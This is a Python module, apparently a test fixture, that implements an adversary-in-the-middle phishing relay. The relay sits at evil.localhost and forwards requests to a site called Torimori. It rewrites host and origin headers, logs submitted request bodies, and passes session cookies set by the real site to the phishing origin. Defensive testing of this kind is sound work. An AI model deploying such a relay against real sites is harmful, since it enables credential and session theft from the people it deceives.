"""A phishing site that relays everything (adversary in the middle), as kits for sale do.

It stands at evil.localhost, passes each request on to Torimori under the right host name and origin,
and notes what it saw. Cookies that Torimori sets become the thief's.
"""

import http.client
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

BODY_CAP = 64 * 1024
OF_THE_HOP = {"connection", "transfer-encoding", "content-length", "content-encoding"}


class Relay:
    """The site; `seen` holds (method, path, body, status) of what went through."""

    def __init__(self, port: int, target: str) -> None:
        self.origin, self.target = f"http://evil.localhost:{port}", target
        self.seen: list[tuple[str, str, bytes, int]] = []
        self.server = ThreadingHTTPServer(("127.0.0.1", port), handler(self))
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def mirrored(self, address: str) -> str:
        """One of the real site's addresses, here."""
        return address.replace(self.target, self.origin)

    def pass_on(self, method: str, path: str, headers: dict[str, str],
                body: bytes) -> tuple[int, list[tuple[str, str]], bytes]:
        """Send a request to the real site, looking as if it came from one of its own pages."""
        host = urlsplit(self.target)
        sent = {name: value.replace(self.origin, self.target) for name, value in headers.items()
                if name.lower() not in OF_THE_HOP | {"host"}}
        connection = http.client.HTTPConnection("127.0.0.1", host.port, timeout=30)
        try:
            connection.request(method, path, body or None, {"Host": host.netloc} | sent)
            answer = connection.getresponse()
            content = answer.read()
        finally:
            connection.close()
        self.seen.append((method, path, body, answer.status))
        kept = [(name, value.replace(self.target, self.origin))
                for name, value in answer.headers.items() if name.lower() not in OF_THE_HOP]
        return answer.status, kept, content


def handler(relay: Relay) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            self._pass()

        def do_POST(self) -> None:
            self._pass()

        def _pass(self) -> None:
            length = min(int(self.headers.get("Content-Length") or 0), BODY_CAP)
            body = self.rfile.read(length) if length else b""
            status, headers, content = relay.pass_on(
                self.command, self.path, dict(self.headers.items()), body)
            self.send_response_only(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None:
            pass

    return Handler
